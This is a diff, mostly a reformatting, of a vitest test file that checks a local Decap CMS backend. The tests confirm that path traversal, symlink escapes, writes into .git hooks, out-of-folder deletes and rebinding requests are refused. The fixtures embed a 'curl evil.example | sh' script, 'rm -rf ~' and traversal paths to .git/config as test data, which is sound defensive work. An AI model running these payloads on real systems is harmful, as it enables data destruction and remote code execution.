@@ -6,7 +6,18 @@
  * Legitimate reads and writes inside the content folder still work.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  cpSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { request } from 'node:http';
 import { createHash } from 'node:crypto';
 import { tmpdir } from 'node:os';
@@ -31,17 +42,31 @@ function snapshot(dir: string, skip: string, files = new Map<string, string>()):
     const path = join(dir, entry.name);
     if (path === skip) continue;
     if (entry.isDirectory()) snapshot(path, skip, files);
-    else files.set(relative(project, path), entry.isSymbolicLink() ? 'link' : createHash('sha256').update(readFileSync(path)).digest('hex'));
+    else
+      files.set(
+        relative(project, path),
+        entry.isSymbolicLink() ? 'link' : createHash('sha256').update(readFileSync(path)).digest('hex'),
+      );
   }
   return files;
 }
 
 /** Sends one request with exactly these headers (Host included), as any client on the network path could. */
-function send(body: unknown, headers: Record<string, string> = {}, method = 'POST'): Promise<{ status: number; text: string; headers: Record<string, unknown> }> {
+function send(
+  body: unknown,
+  headers: Record<string, string> = {},
+  method = 'POST',
+): Promise<{ status: number; text: string; headers: Record<string, unknown> }> {
   const payload = body === undefined ? '' : JSON.stringify(body);
   return new Promise((done, fail) => {
     const req = request(
-      { host: '127.0.0.1', port: PORT, path: '/api/v1', method, headers: { Host: `127.0.0.1:${PORT}`, 'Content-Type': 'application/json', ...headers } },
+      {
+        host: '127.0.0.1',
+        port: PORT,
+        path: '/api/v1',
+        method,
+        headers: { Host: `127.0.0.1:${PORT}`, 'Content-Type': 'application/json', ...headers },
+      },
       (res) => {
         let text = '';
         res.setEncoding('utf8');
@@ -56,11 +81,20 @@ function send(body: unknown, headers: Record<string, string> = {}, method = 'POS
 
 const entry = (path: string, extra: object = {}) => ({
   action: 'persistEntry',
-  params: { branch: 'main', entry: { slug: 'x', path, raw: `---\ntitle: ${SECRET}\n---\nrm -rf ~\n`, ...extra }, assets: [], options: { collectionName: 'articles', commitMessage: 'x', useWorkflow: false, status: 'draft' } },
+  params: {
+    branch: 'main',
+    entry: { slug: 'x', path, raw: `---\ntitle: ${SECRET}\n---\nrm -rf ~\n`, ...extra },
+    assets: [],
+    options: { collectionName: 'articles', commitMessage: 'x', useWorkflow: false, status: 'draft' },
+  },
 });
 const media = (path: string) => ({
   action: 'persistMedia',
-  params: { branch: 'main', asset: { path, content: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n').toString('base64'), encoding: 'base64' }, options: { commitMessage: 'x' } },
+  params: {
+    branch: 'main',
+    asset: { path, content: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n').toString('base64'), encoding: 'base64' },
+    options: { commitMessage: 'x' },
+  },
 });
 const read = (action: string, params: object) => ({ action, params: { branch: 'main', ...params } });
 
@@ -68,7 +102,10 @@ beforeAll(async () => {
   project = mkdtempSync(join(tmpdir(), 'decap-sandbox-'));
   // A project as npm start sees it: git metadata, source, package.json, and the content folder inside.
   mkdirSync(join(project, '.git/hooks'), { recursive: true });
-  writeFileSync(join(project, '.git/config'), `[remote "origin"]\n  url = https://ci:${SECRET}@git.example/xa/portal.git\n`);
+  writeFileSync(
+    join(project, '.git/config'),
+    `[remote "origin"]\n  url = https://ci:${SECRET}@git.example/xa/portal.git\n`,
+  );
   mkdirSync(join(project, 'src/pages'), { recursive: true });
   writeFileSync(join(project, 'src/pages/index.astro'), '---\n---\n<p>trang</p>\n');
   writeFileSync(join(project, 'package.json'), '{"name":"portal","scripts":{}}\n');
@@ -108,12 +145,18 @@ const pathAttacks: [string, () => unknown][] = [
   ['persistEntry backslashes', () => entry('articles\\..\\..\\package.json')],
   ['persistEntry into a symlinked folder', () => entry('linked/x.mdx')],
   ['persistEntry through a symlink inside a collection', () => entry('articles/src-link/pages/x.astro')],
-  ['persistEntry into the content repository\'s .git', () => entry('.git/hooks/pre-commit')],
+  ["persistEntry into the content repository's .git", () => entry('.git/hooks/pre-commit')],
   ['persistEntry a root file of the content folder', () => entry('package.json')],
   ['persistEntry renamed out (newPath)', () => entry('articles/x.mdx', { newPath: '../src/pages/x.astro' })],
   [
     'persistEntry with an asset outside',
-    () => ({ ...entry('articles/x.mdx'), params: { ...entry('articles/x.mdx').params, assets: [{ path: '../.git/hooks/post-checkout', content: 'eA==', encoding: 'base64' }] } }),
+    () => ({
+      ...entry('articles/x.mdx'),
+      params: {
+        ...entry('articles/x.mdx').params,
+        assets: [{ path: '../.git/hooks/post-checkout', content: 'eA==', encoding: 'base64' }],
+      },
+    }),
   ],
   ['persistMedia ../.git/hooks/pre-commit', () => media('../.git/hooks/pre-commit')],
   ['persistMedia media/../../src/x.js', () => media('media/../../src/x.js')],
@@ -130,9 +173,31 @@ const pathAttacks: [string, () => unknown][] = [
   ['getMedia of a symlinked folder', () => read('getMedia', { mediaFolder: 'linked' })],
   ['getMediaFile ../package.json', () => read('getMediaFile', { path: '../package.json' })],
   ['getMediaFile %2e%2e/.git/config', () => read('getMediaFile', { path: '%2e%2e/.git/config' })],
-  ['deleteFile ../package.json', () => ({ action: 'deleteFile', params: { branch: 'main', path: '../package.json', options: { commitMessage: 'x' } } })],
-  ['deleteFile absolute path', () => ({ action: 'deleteFile', params: { branch: 'main', path: join(project, 'package.json'), options: { commitMessage: 'x' } } })],
-  ['deleteFiles ../src/pages/index.astro', () => ({ action: 'deleteFiles', params: { branch: 'main', paths: ['articles/khong-co.mdx', '../src/pages/index.astro'], options: { commitMessage: 'x' } } })],
+  [
+    'deleteFile ../package.json',
+    () => ({
+      action: 'deleteFile',
+      params: { branch: 'main', path: '../package.json', options: { commitMessage: 'x' } },
+    }),
+  ],
+  [
+    'deleteFile absolute path',
+    () => ({
+      action: 'deleteFile',
+      params: { branch: 'main', path: join(project, 'package.json'), options: { commitMessage: 'x' } },
+    }),
+  ],
+  [
+    'deleteFiles ../src/pages/index.astro',
+    () => ({
+      action: 'deleteFiles',
+      params: {
+        branch: 'main',
+        paths: ['articles/khong-co.mdx', '../src/pages/index.astro'],
+        options: { commitMessage: 'x' },
+      },
+    }),
+  ],
   ['an action the local backend does not use', () => ({ action: 'unpublishedEntries', params: { branch: 'main' } })],
 ];
 
@@ -155,7 +220,11 @@ describe('the local CMS backend refuses paths outside the content folder', () =>
     symlinkSync(join(project, '.git/config'), join(content, 'media/leak.png'));
     try {
       const response = await send(read('getMedia', { mediaFolder: 'media' }), { Origin: LOCAL_ORIGIN });
-      expect(response.text).not.toContain(Buffer.from(readFileSync(join(project, '.git/config'))).toString('base64').slice(0, 24));
+      expect(response.text).not.toContain(
+        Buffer.from(readFileSync(join(project, '.git/config')))
+          .toString('base64')
+          .slice(0, 24),
+      );
       const direct = await send(read('getMediaFile', { path: 'media/leak.png' }), { Origin: LOCAL_ORIGIN });
       expect(direct.status).toBe(403);
       expect(direct.text).not.toContain(SECRET);
@@ -184,15 +253,23 @@ describe('the local CMS backend answers only its own loopback name and the local
   });
 
   it('refuses the write a rebinding page would send, and a cross-site preflight', async () => {
-    const write = await send(entry('articles/bi-chen.mdx'), { Host: 'evil.example:8081', Origin: 'http://evil.example:8081' });
+    const write = await send(entry('articles/bi-chen.mdx'), {
+      Host: 'evil.example:8081',
+      Origin: 'http://evil.example:8081',
+    });
     expect(write.status).toBe(403);
     expect(existsSync(join(content, 'articles/bi-chen.mdx'))).toBe(false);
-    const preflight = await send(undefined, { Origin: 'https://trang-la.example.com', 'Access-Control-Request-Method': 'POST' }, 'OPTIONS');
+    const preflight = await send(
+      undefined,
+      { Origin: 'https://trang-la.example.com', 'Access-Control-Request-Method': 'POST' },
+      'OPTIONS',
+    );
     expect(preflight.status).toBe(403);
   });
 
   it('answers 127.0.0.1 and localhost on its port, and the local site (with CORS for it)', async () => {
-    for (const host of [`127.0.0.1:${PORT}`, `localhost:${PORT}`, `LOCALHOST:${PORT}`]) expect((await send(info, { Host: host })).status, host).toBe(200);
+    for (const host of [`127.0.0.1:${PORT}`, `localhost:${PORT}`, `LOCALHOST:${PORT}`])
+      expect((await send(info, { Host: host })).status, host).toBe(200);
     for (const origin of [LOCAL_ORIGIN, `http://localhost:${SITE_PORT}`]) {
       const response = await send(info, { Origin: origin });
       expect(response.status, origin).toBe(200);
@@ -213,12 +290,28 @@ describe('editing inside the content folder still works', () => {
     expect(statSync(join(content, 'media/anh-moi.png')).size).toBeGreaterThan(0);
     const listed = await send(read('getMedia', { mediaFolder: 'media' }), { Origin: LOCAL_ORIGIN });
     expect((JSON.parse(listed.text) as { path: string }[]).map((m) => m.path)).toContain('media/anh-moi.png');
-    const folder = await send(read('entriesByFolder', { folder: 'articles', extension: 'mdx', depth: 1 }), { Origin: LOCAL_ORIGIN });
-    expect((JSON.parse(folder.text) as { file: { path: string } }[]).map((e) => e.file.path)).toContain('articles/bai-moi.mdx');
-    const deleted = await send({ action: 'deleteFile', params: { branch: 'main', path: 'articles/bai-moi.mdx', options: { commitMessage: 'x' } } }, { Origin: LOCAL_ORIGIN });
+    const folder = await send(read('entriesByFolder', { folder: 'articles', extension: 'mdx', depth: 1 }), {
+      Origin: LOCAL_ORIGIN,
+    });
+    expect((JSON.parse(folder.text) as { file: { path: string } }[]).map((e) => e.file.path)).toContain(
+      'articles/bai-moi.mdx',
+    );
+    const deleted = await send(
+      {
+        action: 'deleteFile',
+        params: { branch: 'main', path: 'articles/bai-moi.mdx', options: { commitMessage: 'x' } },
+      },
+      { Origin: LOCAL_ORIGIN },
+    );
     expect(deleted.status).toBe(200);
     expect(existsSync(join(content, 'articles/bai-moi.mdx'))).toBe(false);
-    const removed = await send({ action: 'deleteFiles', params: { branch: 'main', paths: ['media/anh-moi.png'], options: { commitMessage: 'x' } } }, { Origin: LOCAL_ORIGIN });
+    const removed = await send(
+      {
+        action: 'deleteFiles',
+        params: { branch: 'main', paths: ['media/anh-moi.png'], options: { commitMessage: 'x' } },
+      },
+      { Origin: LOCAL_ORIGIN },
+    );
     expect(removed.status).toBe(200);
   });
 
